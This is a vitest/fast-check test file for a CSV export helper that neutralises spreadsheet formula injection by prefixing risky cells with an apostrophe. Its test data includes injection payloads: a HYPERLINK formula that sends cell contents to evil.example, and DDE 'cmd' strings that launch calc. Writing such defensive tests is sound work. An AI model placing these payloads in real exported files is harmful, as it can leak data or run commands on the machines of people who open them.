import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseFormula, tableToCsv } from './csv.ts';

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

describe('CSV formula neutralisation', () => {
  it('makes every classic injection payload inert', () => {
    for (const payload of [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '\uFF1D1+1',
    ])
      expect(neutraliseFormula(payload)).toBe(`'${payload}`);
    expect(tableToCsv(['q'], [['=1+1']])).toBe("q\r\n'=1+1\r\n");
  });

  it('leaves plain numbers and ordinary text alone', () => {
    for (const value of ['-3', '-300.5', '+44', '1e-7', 'Karen Dolton', '', '2017-11-21', "'quoted"])
      expect(neutraliseFormula(value)).toBe(value);
  });

  it('for any text: the result never starts a formula, and only an apostrophe is ever added', () => {
    const risky = fc.tuple(fc.constantFrom(...STARTS, 'a', ' ', '1'), fc.string({ maxLength: 40 }));
    fc.assert(
      fc.property(risky, ([start, rest]) => {
        const value = `${start}${rest}`;
        const out = neutraliseFormula(value);
        expect(out === value || out === `'${value}`).toBe(true);
        const numeric = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(out);
        expect(numeric || !STARTS.includes(out.charAt(0))).toBe(true);
      }),
      { numRuns: 5_000 },
    );
  });
});
